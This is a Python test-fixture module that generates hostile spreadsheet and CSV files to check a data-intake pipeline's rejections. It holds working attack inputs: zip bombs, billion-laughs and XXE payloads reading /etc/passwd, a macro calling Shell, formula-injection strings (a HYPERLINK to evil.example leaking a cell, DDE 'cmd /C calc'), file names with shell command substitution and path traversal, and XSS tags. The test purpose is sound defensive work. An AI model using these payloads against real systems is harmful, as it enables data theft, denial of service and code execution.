"""Hostile and broken files, built by code at test time (tests/test_hostile.py).

Each `Hostile` is one kind of bad input an office folder may hold: resource exhaustion (zip
bombs, huge or sparse sheets), XML tricks, macros and external links, files that are not
what their name says, hostile file names, formula injection, personal data. `rules` are the
error rules intake must report (None: the file is accepted, e.g. text that merely looks like a
formula is stored as text); `cells` the cells the report must name; `secrets` texts that must
never leave the file (logs, reports, warehouse, ledger, Data Docs); `stored` texts that must
reach the warehouse exactly as written.
"""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass, field
from datetime import date

from .builders import csv_bytes, encrypted_ods, ole, xlsx

EVENTS_KK = ["Күні", "Аудан", "Іс-шара түрі", "Атауы", "Қатысушылар"]
OUTREACH_KK = ["Ай", "Аудан", "Бағыт", "Алғаш әңгімелесу жүргізілген ұстанушылар", "Әңгімелесулер саны"]
IIN = "870412300123"
PHONE = "+7 701 555 12 34"
IIN_IN_NAME = "911231400456"  # in a file name only
PERSON = "Жұмабекова Сәуле"
PASSWD_MARK = "root:x:0:0"  # what an external entity pointing at /etc/passwd would pull in
CANARY = "PCVE_CANARY_SHELL"  # a file a shell would create if a name were ever run


@dataclass
class Hostile:
    kind: str
    name: str
    data: bytes
    rules: set[str] | None  # error rules expected; None = accepted
    cells: set[str] = field(default_factory=set)  # cells the report must name (Excel notation)
    secrets: tuple[str, ...] = ()
    stored: tuple[str, ...] = ()  # texts stored as written in raw.events.title
    office: str = "almaty"


def _events(month: int, title: str = "Семинар", n: int = 10) -> list[list]:
    return [EVENTS_KK, [date(2017, month, 5), "Медеу", "семинар", title, n]]


def _good(month: int, title: str = "Семинар") -> bytes:
    return xlsx({"Іс-шаралар": _events(month, title)})


def _two_months() -> bytes:
    """Events in March and April 2017: no one period in the content (forms.md: a name without a
    period token is then rejected period_missing)."""
    rows = _events(3)
    rows.append([date(2017, 4, 5), "Медеу", "семинар", "Семинар", 10])
    return xlsx({"Іс-шаралар": rows})


def _rewrite(data: bytes, fn) -> bytes:
    """Copy an xlsx, passing each part through fn(name, bytes) -> bytes | None (None drops it)."""
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zin.infolist():
            b = fn(info.filename, zin.read(info.filename))
            if b is not None:
                zo.writestr(info.filename, b)
        extra = fn("", b"")  # fn may add parts: called once with an empty name
        if isinstance(extra, dict):
            for name, b in extra.items():
                zo.writestr(name, b)
    return out.getvalue()


def _sheet(fn):
    """A rewrite of the first worksheet only."""
    def inner(name, b):
        if name == "xl/worksheets/sheet1.xml":
            return fn(b)
        return b if name else None
    return inner


def _raw_sheet(rows_xml: str, dimension: str = "A1") -> bytes:
    """A minimal xlsx whose only sheet ("Іс-шаралар") has the given <sheetData> content."""
    base = xlsx({"Іс-шаралар": [["x"]]})

    def fn(b: bytes) -> bytes:
        head, _, tail = b.partition(b"<sheetData>")
        _, _, tail = tail.partition(b"</sheetData>")
        head = head.replace(b'<dimension ref="A1"/>', f'<dimension ref="{dimension}"/>'.encode())
        return head + b"<sheetData>" + rows_xml.encode() + b"</sheetData>" + tail

    return _rewrite(base, _sheet(fn))


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "' + (f"&lol{i - 1};" if i > 1 else "&lol;") * 10 + '">' for i in range(1, 10))
          + "]>").encode()
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from already deflated members: (name, raw deflate data, crc32, declared size)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, crc, size in members:
        n = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(n), 0) + n)
        out.write(data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                                  len(n), 0, 0, 0, 0, 0, offset) + n)
    cd = central.getvalue()
    out.write(cd)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd),
                          out.tell() - len(cd), 0))
    return out.getvalue()


def _deflated(parts: list[bytes], repeat: int = 1) -> tuple[bytes, int, int]:
    """Raw deflate of parts[0] + parts[1] * repeat + parts[2]; the repeated block is compressed once
    (a full flush resets the compressor, so its output is the same every time)."""
    head, chunk, tail = parts
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    a = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    b = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    z = c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(repeat):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return a + b * repeat + z, crc, len(head) + len(chunk) * repeat + len(tail)


def _bomb(megabytes: int, declared: int | None) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(xlsx({"Іс-шаралар": [["x"]]})))
    members = []
    for info in base.infolist():
        raw = base.read(info.filename)
        if info.filename == "xl/worksheets/sheet1.xml":
            head = raw.split(b"<sheetData>")[0] + b"<sheetData>"
            data, crc, size = _deflated([head, b" " * (1 << 20), b"</sheetData></worksheet>"], megabytes)
        else:
            data, crc, size = _deflated([raw, b"", b""])
        members.append((info.filename, data, crc, size if declared is None or size < 2**20 else declared))
    return _zip(members)


def zip_bomb(megabytes: int = 310) -> bytes:
    """A real bomb: ~300 KB that inflate to `megabytes` MB of one worksheet."""
    return _bomb(megabytes, None)


def lying_zip(megabytes: int = 200) -> bytes:
    """A bomb whose headers lie: the worksheet says 4 KB, its data inflates to `megabytes` MB."""
    return _bomb(megabytes, 4096)


def ods_repeated(rows: int = 1_000_000) -> bytes:
    """An .ods of a few KB: one value repeated down a million rows (calamine would expand it)."""
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    doc = OpenDocumentSpreadsheet()
    t = Table(name="Іс-шаралар")
    tr = TableRow(numberrowsrepeated=rows)
    c = TableCell(valuetype="float", value=1)
    c.addElement(P(text="1"))
    tr.addElement(c)
    t.addElement(tr)
    doc.spreadsheet.addElement(t)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def xlsm() -> bytes:
    """A macro-enabled workbook: vbaProject.bin and the macroEnabled content type."""
    def fn(name, b):
        if name == "[Content_Types].xml":
            return b.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        if name == "":
            return {"xl/vbaProject.bin": ole("VBA", "PROJECT", "dir") + b"Sub Auto_Open()\nShell \"calc\"\nEnd Sub"}
        return b
    return _rewrite(_good(4), fn)


def external_link() -> bytes:
    """A formula fed by another workbook (an external link part), with its cached value."""
    rel = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
           'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
           'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" '
           'TargetMode="External"/></Relationships>')
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships" r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
            '</externalBook></externalLink>')

    def fn(name, b):
        if name == "xl/worksheets/sheet1.xml":
            # E2 (participants) = [1]S!A1, cached 25
            return b.replace(b'<c r="E2" t="n"><v>10</v></c>', b'<c r="E2"><f>[1]S!A1</f><v>25</v></c>')
        if name == "":
            return {"xl/externalLinks/externalLink1.xml": link.encode(),
                    "xl/externalLinks/_rels/externalLink1.xml.rels": rel.encode()}
        return b
    return _rewrite(_good(5), fn)


def formula_no_cache() -> bytes:
    return _rewrite(_good(6), _sheet(lambda b: b.replace(b'<c r="E2" t="n"><v>10</v></c>',
                                                          b'<c r="E2"><f>SUM(A1:A9)</f></c>')))


def text_cells(rows: list[list], sheet: str = "Іс-шаралар") -> bytes:
    """xlsx where strings that start with '=' stay text (openpyxl would make them formulas)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row, start=1):
            cell = ws.cell(row=r, column=c)
            cell.value = v
            if isinstance(v, str):
                cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Нұсқаулық")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2"]


def all_hostile() -> list[Hostile]:
    nfc_name = unicodedata.normalize("NFC", "Алматы қ. есебі (түзетілген) 2017-09.xlsx")
    nfd_name = unicodedata.normalize("NFD", "Отчёт Алматы, йә 2017-10.xlsx")
    assert nfd_name != unicodedata.normalize("NFC", nfd_name)
    long_text = "Ұзақ мәтін " * 9100 + "соңы"  # ~100k characters in one cell
    control = "Семинар\x07\x1b[31m жастармен\x0b"
    rtl = "Семинар \u202eтексеру\u202c \u200fжастар"
    H = Hostile
    return [
        # ---- resource exhaustion
        H("zip bomb (310 MB inflated from ~300 KB)", "bomb 2017-03.xlsx", zip_bomb(), {"too_large"}),
        H("zip with lying sizes (says 4 KB, inflates to 200 MB)", "liar 2017-03.xlsx", lying_zip(), {"cannot_open"}),
        H("huge sheet: 100,001 rows", "rows 2017-03.xlsx",
          _raw_sheet("".join(f'<row r="{i}"><c r="A{i}" t="n"><v>1</v></c></row>' for i in range(1, 100_002))),
          {"too_large"}),
        H("huge sheet: 250 columns", "cols 2017-03.xlsx",
          _raw_sheet('<row r="1">' + "".join(f'<c t="n"><v>{i}</v></c>' for i in range(250)) + "</row>"),
          {"too_large"}),
        H("sparse sheet: one value in XFD1048576 (17 billion cells if loaded dense)", "sparse 2017-03.xlsx",
          _raw_sheet('<row r="1"><c r="A1" t="n"><v>1</v></c></row>'
                     '<row r="1048576"><c r="XFD1048576" t="n"><v>7</v></c></row>', "A1:XFD1048576"),
          {"too_large"}),
        H(".ods: one value repeated down a million rows", "repeat 2017-03.ods", ods_repeated(), {"too_large"}),
        H("file over 50 MB", "big 2017-03__events.csv", b"a;" * (26 * 2**20), {"too_large"}),
        # ---- XML tricks
        H("billion laughs (entity expansion) in a cell", "laughs 2017-03.xlsx",
          _rewrite(_good(3, "PLACEHOLDER"), _sheet(lambda b: LAUGHS + b.replace(b"PLACEHOLDER", b"&lol9;"))),
          {"cannot_open"}),
        H("billion laughs in an attribute calamine never reads", "laughs-attr 2017-03.xlsx",
          _rewrite(_good(3), _sheet(lambda b: LAUGHS + b.replace(b'<c r="A1"', b'<c x="&lol9;" r="A1"', 1))),
          {"cannot_open"}),
        H("external entity (XXE) to /etc/passwd", "xxe 2017-03.xlsx",
          _rewrite(_good(3, "PLACEHOLDER"), _sheet(lambda b: XXE + b.replace(b"PLACEHOLDER", b"&e;"))),
          {"cannot_open"}, secrets=(PASSWD_MARK,)),
        # ---- macros, links, protection, not spreadsheets
        H(".xlsm with vbaProject.bin", "macro 2017-04.xlsm", xlsm(), {"unsupported_file_type"}),
        H("macros inside a file named .xlsx (read as values, never run)", "macro-in-xlsx 2017-04.xlsx", xlsm(), None),
        H("external link to another workbook (cached value used, link never opened)", "link 2017-05.xlsx",
          external_link(), None, secrets=(PASSWD_MARK,)),
        H("password-protected .xlsx (encrypted OLE)", "locked 2017-03.xlsx", ole("EncryptionInfo", "EncryptedPackage"),
          {"password_protected"}),
        H("password-protected .ods", "locked 2017-03.ods", encrypted_ods(), {"password_protected"}),
        H("old .xls renamed .xlsx", "old 2017-03.xlsx", ole("Workbook", "SummaryInformation"), {"old_xls"}),
        H("a PDF named .xlsx", "report 2017-03.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n" * 20,
          {"not_a_spreadsheet"}),
        H("an executable named .xlsx", "tool 2017-03.xlsx", b"\x7fELF\x02\x01\x01" + bytes(500), {"not_a_spreadsheet"}),
        H("empty file", "empty 2017-03.xlsx", b"", {"empty_file"}),
        H("xlsx cut short", "cut 2017-03.xlsx", _good(3)[:1500], {"cannot_open"}),
        H("CSV with NUL bytes", "nul 2017-03__events.csv", b"\xef\xbb\xbf" + "Күні;Аудан\n".encode() + b"\x00" * 64,
          {"header_not_found"}),
        # ---- layout
        H("merged header cells over data columns", "merged 2017-03.xlsx",
          xlsx({"Іс-шаралар": [["Күні", None, "Іс-шара түрі", "Атауы", "Қатысушылар"],
                               [date(2017, 3, 5), "Медеу", "семинар", "Семинар", 10]]},
               merges={"Іс-шаралар": ["A1:B1"]}), {"header_not_found"}),
        H("formula without a cached value", "nocache 2017-06.xlsx", formula_no_cache(),
          {"formula_not_calculated"}, cells={"Іс-шаралар!E2"}),
        # ---- text accepted as text (forms.md: text stored as given)
        # the same per-cell limit for every format (issue 13): 32,767 characters, as in Excel
        H("very long cell (100,000 characters, CSV)", "long 2017-07__events.csv",
          csv_bytes([EVENTS_KK, ["07.07.2017", "Медеу", "семинар", long_text, 10]], ";"), {"cell_too_long"}),
        H("a CSV cell of 32,767 characters (the limit)", "limit 2017-07__events.csv",
          csv_bytes([EVENTS_KK, ["08.07.2017", "Медеу", "семинар", long_text[:32767], 10]], ";"), None,
          stored=(long_text[:32767],)),
        H("very long cell (32,767 characters, the most an .xlsx cell holds)", "long 2017-07.xlsx",
          _good(7, long_text[:32767]), None, stored=(long_text[:32767],)),
        H("control characters in a cell", "ctrl 2017-08__events.csv",
          csv_bytes([EVENTS_KK, ["05.08.2017", "Медеу", "семинар", control, 10]], ";"), None, stored=(control,)),
        H("right-to-left marks in a cell", "rtl 2017-08__events.csv",
          csv_bytes([EVENTS_KK, ["06.08.2017", "Медеу", "семинар", rtl, 10]], ";"), None, stored=(rtl,)),
        H("formula injection in text cells (CSV)", "inject 2017-11__events.csv",
          csv_bytes([EVENTS_KK] + [[f"0{k}.11.2017", "Медеу", "семинар", t, 10] for k, t in enumerate(INJECTIONS, 1)],
                    ";"), None, stored=tuple(INJECTIONS)),
        H("formula injection in text cells (.xlsx string cells)", "inject 2017-12.xlsx",
          text_cells([EVENTS_KK] + [[date(2017, 12, k), "Медеу", "семинар", t, 10] for k, t in enumerate(INJECTIONS, 1)]),
          None, stored=tuple(INJECTIONS)),
        H("formula injection in number cells (rejected, quoted back as text)", "inject-numbers 2017-03.xlsx",
          text_cells([OUTREACH_KK, ["наурыз 2017", "Медеу", "ислам", "=1+2", "@SUM(A1)"],
                      ["наурыз 2017", "Алмалы", "ислам", "+7", "-1+1"]], "Әңгімелесу"),
          {"qualified_number"}, cells={"Әңгімелесу!D2", "Әңгімелесу!E2", "Әңгімелесу!E3"}),
        # ---- personal data (forms.md privacy rule)
        H("IIN-shaped value in a cell", "iin 2017-03.xlsx", _good(3, f"Жауапты ЖСН {IIN}"), {"privacy_iin"},
          cells={"Іс-шаралар!D2"}, secrets=(IIN,)),
        H("phone number in a cell", "phone 2017-03.xlsx", _good(3, f"Байланыс {PHONE}"), {"privacy_phone"},
          cells={"Іс-шаралар!D2"}, secrets=(PHONE, "555 12 34")),
        H("an IIN and a phone in the file name (masked wherever the name is recorded)",
          f"есеп 2018-02 жауапты {IIN_IN_NAME} тел 87015551234.xlsx",
          xlsx({"Іс-шаралар": [EVENTS_KK, [date(2018, 2, 5), "Медеу", "семинар", "Семинар", 10]]}), None,
          secrets=(IIN_IN_NAME, "87015551234")),
        H("a column of person names", "names 2017-03.xlsx",
          xlsx({"Іс-шаралар": [EVENTS_KK + ["Аты-жөні"],
                               [date(2017, 3, 5), "Медеу", "семинар", "Семинар", 10, PERSON]]}),
          {"privacy_person_column"}, cells={"Іс-шаралар!F1"}, secrets=(PERSON, "Жұмабекова")),
        # ---- hostile file names (Linux allows anything but '/' and NUL)
        # (a name that starts with "." is a hidden file, never a submission: sources._is_candidate)
        H("path separators and '..' in the name", "отчёт\\..\\..\\..\\etc\\cron.d\\pcve.xlsx", _two_months(),
          {"period_missing"}),
        H("shell command substitution in the name", f"$(touch {CANARY}).xlsx", _two_months(), {"period_missing"}),
        H("shell metacharacters in the name", f"a;b|c&&touch {CANARY}`id`.xlsx", _two_months(), {"period_missing"}),
        H("HTML in the name and a cell", "<img src=x onerror=alert(1)> 2017-03.xlsx",
          _good(3, "<script>alert(1)</script>"), None, stored=("<script>alert(1)</script>",)),
        H("newline and terminal escapes in the name (log injection)", "ok 2017-04\n\x1b[2JERROR forged.xlsx",
          _good(4), None),
        H("right-to-left override hiding the extension", "almaty_2017-03_\u202excod.exe", _good(3),
          {"unsupported_file_type"}),
        H("Kazakh file name, NFC", nfc_name, _good(9, "Алматы семинары"), None),
        H("Kazakh file name, NFD (decomposed й, ё)", nfd_name, _good(10, "Жастар семинары"), None),
    ]
